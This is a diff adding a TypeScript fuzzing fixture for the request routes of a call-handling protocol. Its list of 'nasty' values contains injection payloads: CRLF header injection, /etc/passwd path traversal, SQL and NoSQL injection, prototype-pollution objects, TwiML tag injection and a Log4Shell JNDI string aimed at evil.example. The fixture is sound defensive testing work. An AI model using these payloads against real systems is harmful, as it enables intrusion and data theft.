@@ -1,0 +1,130 @@
+import { limits } from '@callseal/protocol/limits';
+import { type Route, routes } from '@callseal/protocol/routes';
+import { callSid, conferenceSid, taskSid } from '../twilio-double.js';
+import { marks } from './marks.js';
+
+interface Field {
+  readonly name: string;
+  /** Values that the route's own schema accepts. */
+  readonly valid: readonly unknown[];
+  readonly optional: boolean;
+}
+
+/** A row of the route table with what may be written into its body. */
+export interface FuzzedRoute {
+  readonly name: string;
+  readonly route: Route;
+  readonly fields: readonly Field[];
+}
+
+interface Parser {
+  safeParse(value: unknown): { readonly success: boolean };
+}
+
+/** Of these, every field of every route accepts at least one; a route whose field does not makes the table test fail. */
+const pool: readonly unknown[] = [
+  marks.requestedNumber,
+  marks.credential,
+  callSid,
+  taskSid,
+  conferenceSid,
+  'agreed',
+  'refused',
+  'withdrawn',
+  'en',
+  'es-ES',
+  '2026-11-22T10:00:00.000Z',
+  'spoken-to-agent',
+  'register',
+  'verify',
+  'match',
+  'mismatch',
+  'spoof',
+  'inconclusive',
+  'unavailable',
+  1234,
+  '1234',
+  0,
+  true,
+  'v1',
+  'stream-started',
+  'stream-error',
+  'task.wrapup',
+  `MZ${'7'.repeat(32)}`,
+];
+
+/** Ids name a kind by their first letters; a value of another kind is well-formed for the schema, and refused by the handler. */
+const kinds: Readonly<Record<string, RegExp>> = { callsid: /^CA/, tasksid: /^WT/, conferencesid: /^CF/, streamsid: /^MZ/ };
+
+/** Where a page sends what is secret; in any other field it would be the page's own fault that it is told again. */
+const marked: Readonly<Record<string, true>> = { subject: true, credential: true };
+const isMarked = (value: unknown): boolean => value === marks.requestedNumber || value === marks.credential;
+
+function fieldsOf(schema: unknown): readonly Field[] {
+  const shape =
+    (schema as { readonly _zod?: { readonly def?: { readonly shape?: Readonly<Record<string, Parser>> } } })._zod?.def?.shape ?? {};
+  return Object.entries(shape).map(([name, parser]) => {
+    const accepted = pool.filter((value) => parser.safeParse(value).success && (marked[name] ?? !isMarked(value)));
+    const kind = kinds[name.toLowerCase()];
+    const fitting = kind === undefined ? accepted : accepted.filter((value) => typeof value === 'string' && kind.test(value));
+    return { name, valid: fitting.length > 0 ? fitting : accepted, optional: parser.safeParse(undefined).success };
+  });
+}
+
+/** Every route of the protocol's table. Walked, not listed: a new route is fuzzed without being named here. */
+export const fuzzedRoutes: readonly FuzzedRoute[] = Object.entries<Route>(routes).map(([name, route]) => ({
+  name,
+  route,
+  fields: fieldsOf(route.request),
+}));
+
+/** Names that programs have stumbled over. */
+export const nastyNames = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'Token',
+  'url',
+  '',
+  '__proto__[x]',
+  'a.b',
+  '\u0000',
+] as const;
+
+/** Values that programs have stumbled over. */
+export const nastyValues: readonly unknown[] = [
+  null,
+  '',
+  ' ',
+  '\u0000',
+  'a\u0000b',
+  '\ud800',
+  'x\udfff',
+  '\ufeff',
+  '\u202e',
+  '\r\nset-cookie: a=b',
+  '../../../etc/passwd',
+  '%2e%2e%2f',
+  "' OR 1=1 --",
+  '"/><Dial>',
+  '${jndi:ldap://evil.example}',
+  '__proto__',
+  'undefined',
+  'NaN',
+  -1,
+  1e308,
+  -0,
+  9_007_199_254_740_993,
+  [],
+  {},
+  [['a']],
+  { $ne: null },
+  { toString: 'x' },
+  JSON.parse('{"__proto__":{"polluted":true}}'),
+  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
+  true,
+  'a'.repeat(limits.subjectCharacters + 1),
+  'https://evil.example/',
+];
